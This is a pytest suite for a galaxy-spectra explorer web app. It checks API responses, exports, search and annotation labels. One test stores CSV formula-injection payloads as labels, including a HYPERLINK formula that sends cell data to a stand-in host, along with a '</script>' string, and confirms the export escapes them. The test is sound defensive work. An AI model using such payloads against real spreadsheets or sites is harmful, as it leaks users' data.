"""Responses of the application, compared with the catalog and the store."""

import io
from datetime import UTC, datetime

import numpy as np
import pyarrow as pa
import pyarrow.csv
import pyarrow.parquet
import pytest
from astropy.table import Table
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from distspec.catalog.editions import open_tables
from distspec.core.lines import GALAXY_LINES
from distspec.explorer.app import make_app
from distspec.explorer.session import open_annotation_session
from distspec.io.files import list_files
from distspec.io.paths import store_url
from distspec.labels.annotations import (
    INTEREST_LABELS,
    Annotation,
    add_annotations,
    annotations_url,
    read_annotations,
)
from distspec.labels.importing import read_labels, select_new
from distspec.models.neighbors import compute_log_bayes_factors
from distspec.store.store import open_store
from tests.explorer.conftest import EVIL


@pytest.fixture
def client(explorer_data, root):
    add_annotations(root, [Annotation("o0007", "LAE", "bob", "broad?")])
    with TestClient(make_app(explorer_data, open_annotation_session(root, "ann"), GALAXY_LINES)) as client:
        yield client


@pytest.fixture
def objects(root):
    return open_tables(root)["objects"].to_table()


@pytest.fixture
def row(objects) -> list[int]:
    """Return the row in the catalog of every row of the store (o0000, o0001, ...)."""
    return np.argsort(objects["store_row"].to_numpy()).tolist()


def floats(response):
    assert response.status_code == 200
    return np.frombuffer(response.content, "<f4")


def test_map_and_columns_agree_with_the_catalog(client, objects):
    map_ = floats(client.get("/api/map")).reshape(3, -1)
    for values, name in zip(map_, ("umap_0", "umap_1", "cluster_label"), strict=True):
        assert np.array_equal(values, objects[name].to_numpy().astype(np.float32))
    for name in ("z", "ra", "z_mean_01", "grade"):
        assert np.array_equal(
            floats(client.get(f"/api/column/{name}")), objects[name].to_numpy().astype(np.float32)
        )
    assert client.get("/api/ids").text.split("\0") == objects["object_id"].to_pylist()


def test_categories_are_sent_as_codes(client, objects):
    columns = {column["name"]: column for column in client.get("/api/catalog").json()["columns"]}
    split = columns["split"]
    assert split["value_type"] == "category"
    codes = floats(client.get("/api/column/split")).astype(int)
    assert [split["categories"][code] for code in codes] == objects["split"].to_pylist()
    assert columns["object_id"]["value_type"] == "text"
    assert client.get("/api/column/object_id").status_code == 404
    assert columns["ra"]["unit"] == "deg"


def test_catalog_payload(client, root):
    catalog = client.get("/api/catalog").json()
    store = open_store(store_url(root))
    assert catalog["lines"] == dict(GALAXY_LINES)
    assert catalog["wave_rest"] == store.config.grid.wave_rest.tolist()
    assert (catalog["n"], catalog["norm_wave"], catalog["annotator"]) == (400, 1500.0, "ann")
    assert [row["cluster_label"] for row in catalog["classes"]] == [-1, 0, 1, 2]
    ranks = open_tables(root)["objects"].to_table()["anomaly_rank"].to_numpy()
    assert [summary["row"] for summary in catalog["top_anomalies"]] == np.argsort(ranks)[:12].tolist()


def test_spectrum_and_reconstruction(client, explorer_data, root, objects, row):
    i = row[42]
    flux, ivar, recon = floats(client.get(f"/api/spectrum/{i}")).reshape(3, -1)
    store = open_store(store_url(root))
    stored = store.read_spectra(np.array([42]))
    assert np.array_equal(flux, stored[0][0])
    assert np.array_equal(ivar, stored[1][0])
    decoded = explorer_data.model.decode(explorer_data.posteriors.mean[i : i + 1], objects["z"][i].as_py())
    assert np.allclose(recon, decoded[0] * objects["amplitude"][i].as_py())


def test_columns_have_groups_and_the_anomaly_its_components(client, objects):
    catalog = client.get("/api/catalog").json()
    groups = {column["name"]: column["group"] for column in catalog["columns"]}
    assert set(groups.values()) <= set(catalog["groups"])
    expected = {"ra": "source", "cluster_prob_00": "class probabilities", "anomaly_score": "anomaly"}
    expected |= {
        "artefact_gaps": "bad pixels",
        "z_mean_00": "latent variables and fit",
        "human_label": "labels",
    }
    assert {name: groups[name] for name in expected} == expected
    assert not any(name.startswith("galaxy_type") for name in groups), "the archive has no rules"
    dex = [field.name for field in objects.schema if field.metadata[b"unit"] == b"dex"]
    assert catalog["anomaly_components"] == [name for name in dex if name != "anomaly_score"]
    assert "Lyα" in catalog["line_lists"]["hydrogen"]


def test_the_reason_of_listed_spectra_is_the_published_one_and_others_have_one(client, root, row, objects):
    published = open_tables(root)["anomalies"].to_table()
    first = objects["object_id"].to_pylist().index(published["object_id"][0].as_py())
    assert client.get(f"/api/explanation/{first}").json()["reason"] == published["reason"][0].as_py()
    last = int(np.argmax(objects["anomaly_rank"].to_numpy()))
    found = client.get(f"/api/explanation/{last}").json()
    assert "top " in found["reason"]
    assert "largest residual" in found["reason"]
    assert found["bad_pixels"] == "", "all statistics of the test root are 0"


def test_small_spectra_are_means_of_neighboring_pixels(client, explorer_data, monkeypatch):
    monkeypatch.setattr("distspec.explorer.spectra.SMALL_PIXELS", 32)
    rows = [7, 3, 250]
    small = floats(client.get(f"/api/spectra?rows={','.join(map(str, rows))}")).reshape(3, 2, 32)
    for found, row in zip(small, rows, strict=True):
        flux, ivar, recon = explorer_data.spectrum(row).astype(np.float64).reshape(3, 32, 2)
        total = ivar.sum(axis=1)
        mean = np.where(
            total > 0, (np.where(ivar > 0, flux, 0) * ivar).sum(axis=1) / np.maximum(total, 1e-30), np.nan
        )
        assert np.allclose(found[0], mean, rtol=1e-4, equal_nan=True)
        assert np.allclose(found[1], recon.mean(axis=1), rtol=1e-4, atol=1e-5)
    assert client.get("/api/spectra?rows=").status_code == 404
    assert client.get(f"/api/spectra?rows={','.join(['1'] * 61)}").status_code == 400


@pytest.mark.parametrize("output_format", ["fits", "csv"])
def test_a_saved_spectrum_has_the_pixels_of_its_frame(client, explorer_data, objects, output_format):
    row, z, norm = 5, objects["z"][5].as_py(), objects["norm"][5].as_py()
    flux, ivar, _ = explorer_data.spectrum(row)
    path = f"/api/spectrum/{row}/{output_format}"
    for frame, stretch, scale in (("rest", 1.0, 1.0), ("observed", 1.0 + z, norm / (1.0 + z))):
        response = client.get(path, params={"frame": frame})
        reader = {"fits": "fits", "csv": "ascii.csv"}[output_format]
        table = Table.read(io.BytesIO(response.content), format=reader)
        wave = explorer_data.store.config.grid.wave_rest
        assert np.allclose(table["wave"], wave * stretch)
        assert np.allclose(table["flux"][ivar > 0], flux[ivar > 0] * scale)
        assert np.allclose(table["ivar"], ivar / scale**2)
        if output_format == "fits":
            assert (table.meta["Z"], table.meta["FRAME"]) == (pytest.approx(z), frame)
            assert str(table["wave"].unit) == "Angstrom"
    assert client.get(path, params={"frame": "galactic"}).status_code == 400
    assert client.get(f"/api/spectrum/{row}/exe").status_code == 400


def test_all_columns_are_exported_in_three_formats_and_as_an_address(client, objects, row):
    client.post("/api/labels", json={"rows": [row[8]], "label": "=LRD"})
    rows = [row[8], row[2]]
    contents = {
        name: client.post("/api/export", json={"rows": rows, "format": name}).content
        for name in ("csv", "parquet", "votable")
    }
    shared = client.post("/api/tables", json={"rows": rows}).json()["url"]
    contents["shared"] = client.get(shared.removeprefix("http://testserver:80")).content
    parquet = pyarrow.parquet.read_table(io.BytesIO(contents["parquet"]))
    assert set(objects.column_names) < set(parquet.column_names)
    assert parquet.schema.field("ra").metadata[b"unit"] == b"deg"
    assert parquet["human_label"].to_pylist() == ["=LRD", ""]
    assert parquet["z_mean_00"].to_pylist() == objects["z_mean_00"].take(rows).to_pylist()
    assert pa.csv.read_csv(io.BytesIO(contents["csv"])).column_names == parquet.column_names
    for name in ("votable", "shared"):
        table = Table.read(io.BytesIO(contents[name]), format="votable")
        assert list(table["object_id"]) == ["o0008", "o0002"]
        assert str(table["ra"].unit) == "deg"
    everything = client.post("/api/export", json={"rows": "all", "format": "parquet"}).content
    assert len(pyarrow.parquet.read_table(io.BytesIO(everything))) == 400
    assert client.post("/api/export", json={"rows": rows, "format": "exe"}).status_code == 400
    assert client.get("/api/tables/7.vot").status_code == 404


def test_unknown_items_are_not_found(client):
    for path in (
        "spectrum/400",
        "object/400",
        "column/nothing",
        "match/z?text=1",
        "spectrum/-1",
        "spectrum/x",
    ):
        assert client.get(f"/api/{path}").status_code == 404, path


def test_object_payload(client, explorer_data, row):
    i = row[7]
    found = client.get(f"/api/object/{i}").json()
    assert found["values"]["object_id"] == "o0007"
    assert found["archive_url"] == ""
    posteriors = explorer_data.posteriors
    factors = compute_log_bayes_factors(posteriors, posteriors.take(np.array([i])))
    order = np.argsort(-factors, kind="stable")
    nearest = order[order != i][:12]
    assert [neighbor["row"] for neighbor in found["neighbors"]] == nearest.tolist()
    shown = [neighbor["ln_bayes_factor"] for neighbor in found["neighbors"]]
    assert shown == pytest.approx(factors[nearest])
    [annotation] = found["annotations"]
    assert (annotation["annotator"], annotation["label"], annotation["note"]) == ("bob", "LAE", "broad?")


def test_search_by_identifier_and_by_position(client, row):
    assert client.get("/api/find", params={"text": "O0012"}).json()["rows"] == [row[12]]
    assert client.get("/api/find", params={"text": "s399"}).json()["rows"] == [row[399]], (
        "source identifiers are searched, too"
    )
    assert client.get("/api/find", params={"text": "<IMG"}).json()["rows"] == [row[0]]
    assert client.get("/api/find", params={"text": "150.05 2.0"}).json()["rows"] == [row[5]]
    assert client.get("/api/find", params={"text": "150.05 2.0 40"}).json()["rows"][0] == row[5]
    assert set(client.get("/api/find", params={"text": "150.05 2.0 40"}).json()["rows"]) == {
        row[4],
        row[5],
        row[6],
    }
    assert client.get("/api/find", params={"text": "10:00:12 +02:00:00 1"}).json()["rows"] == [row[5]]
    assert client.get("/api/find", params={"text": "151 -40"}).json()["total"] == 0
    assert client.get("/api/find", params={"text": "999 0"}).json()["total"] == 0, (
        "neither a position nor an identifier"
    )


def test_text_is_not_a_pattern(client, row):
    rows = client.get("/api/match/object_id", params={"text": "o001"})
    assert np.frombuffer(rows.content, "<u4").tolist() == sorted(row[10:20])
    assert client.get("/api/match/object_id", params={"text": ".*"}).content == b""


def test_labels_are_saved_immediately_and_compacted_at_the_end(client, root, row):
    assert client.post("/api/labels", json={"rows": [row[3], row[4]], "label": "LRD"}).status_code == 200
    assert client.post("/api/labels", json={"rows": [row[3]], "label": "interesting"}).status_code == 200
    current = client.get("/api/labels").json()
    assert current["labels"] == {str(row[3]): "LRD", str(row[4]): "LRD", str(row[7]): "LAE"}
    assert current["marks"] == {str(row[3]): "interesting"}
    assert len(read_annotations(root)) == 4
    assert "labels.parquet" not in list_files(annotations_url(root))
    client.__exit__(None, None, None)
    assert [name for name in list_files(annotations_url(root)) if name.endswith("parquet")] == [
        "labels.parquet"
    ]
    assert len(read_annotations(root)) == 4


@pytest.mark.parametrize(
    "body", [{}, {"rows": []}, {"rows": [1]}, {"rows": [1], "label": " "}, {"rows": 1, "label": "LRD"}]
)
def test_incomplete_labels_are_refused(client, root, body):
    assert client.post("/api/labels", json=body).status_code == 400
    assert client.post("/api/labels", json={"rows": [400], "label": "LRD"}).status_code == 404
    assert len(read_annotations(root)) == 1


def test_invalid_json_is_refused(client):
    assert client.post("/api/labels", content=b"{").status_code == 400
    assert client.post("/api/labels", content=b"[" * 20_000).status_code == 400
    assert client.post("/api/labels", content=b"[1]").status_code == 400


def test_labels_of_number_keys_are_saved(client, root):
    response = client.put("/api/labels", json={"names": ["LRD", " LAE ", "", "LRD"]})
    assert response.json() == {"names": ["LRD", "LAE"]}
    assert open_annotation_session(root, "bob").read_label_names() == ["LRD", "LAE"]
    assert client.get("/api/catalog").json()["label_names"] == ["LRD", "LAE"]
    assert client.put("/api/labels", json={"names": [str(i) for i in range(10)]}).status_code == 400
    assert client.put("/api/labels", json={"names": ["ordinary"]}).status_code == 400
    assert len(read_annotations(root)) == 1, "label names are no annotations"


def test_an_export_escapes_formulas_and_its_import_gives_the_labels_back(client, row, tmp_path):
    labels = {
        5: '=HYPERLINK("http://x.example/?"&A2,"open")',
        6: "+1",
        7: "@a",
        8: "'=a",
        9: "</script>",
        10: "a,b",
    }
    for i, label in labels.items():
        assert client.post("/api/labels", json={"rows": [row[i]], "label": label}).status_code == 200
    for i in (5, 11):
        client.post("/api/labels", json={"rows": [row[i]], "label": "interesting"})
    rows = [row[i] for i in (*labels, 11)]
    content = client.post("/api/export", json={"rows": rows}).content
    table = pa.csv.read_csv(io.BytesIO(content))
    assert [text[:2] for text in table["human_label"].to_pylist()[:4]] == ["'=", "'+", "'@", "''"]
    path = tmp_path / "export.csv"
    path.write_bytes(content)
    read = read_labels(str(path), table["object_id"].combine_chunks(), "ann")
    assert {(a.object_id, a.human_label) for a in read.annotations} == {
        *((f"o{i:04d}", label) for i, label in labels.items()),
        *((f"o{i:04d}", "interesting") for i in (5, 11)),
    }
    assert read.unknown_ids == []


ANNOTATED = st.lists(
    st.tuples(
        st.sampled_from(["o0001", "o0002", "o0003"]),
        st.sampled_from(["LRD", "=LAE", "", *INTEREST_LABELS]),
        st.sampled_from(["ann", "bob", "-carl"]),
        st.sampled_from(["", "'+", 'a "b",\nc', "Hα?"]),
    ),
    max_size=8,
)


@settings(max_examples=10, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ANNOTATED)
def test_the_import_of_an_export_is_the_identity(explorer_data, tmp_path_factory, given_annotations):
    folder = tmp_path_factory.mktemp("labels")
    root, other = str(folder / "root"), str(folder / "other")
    for i, annotation in enumerate(given_annotations):
        add_annotations(root, [Annotation(*annotation)], datetime(2026, 1, 1 + i, tzinfo=UTC))
    before = read_annotations(root)
    session = open_annotation_session(root, "ann")
    app = TestClient(make_app(explorer_data, session, {}), headers={"content-type": "application/json"})
    path = folder / "export.csv"
    path.write_bytes(app.post("/api/export", json={"rows": list(range(len(explorer_data)))}).content)
    read = read_labels(str(path), pa.array(explorer_data.object_ids), "someone")
    assert read.n_blank + len({annotation.object_id for annotation in read.annotations}) == 400
    assert select_new(read.annotations, before) == []
    if read.annotations:
        add_annotations(other, read.annotations)
    copied = open_annotation_session(other, "ann")
    for marks in (False, True):
        assert copied.current_annotations(marks) == session.current_annotations(marks)


def test_export_contains_the_selected_rows(client, objects, row):
    client.post("/api/labels", json={"rows": [row[0]], "label": "LRD"})
    response = client.post("/api/export", json={"rows": [row[5], row[0]]})
    table = pa.csv.read_csv(io.BytesIO(response.content))
    assert table["object_id"].to_pylist() == ["o0005", EVIL]
    assert table["human_label"].to_pylist() == ["", "LRD"]
    assert np.allclose(table["z"].to_numpy(), objects["z"].take([row[5], row[0]]).to_numpy())
    assert {"ra", "dec", "cluster_label", "anomaly_score"} <= set(table.column_names)
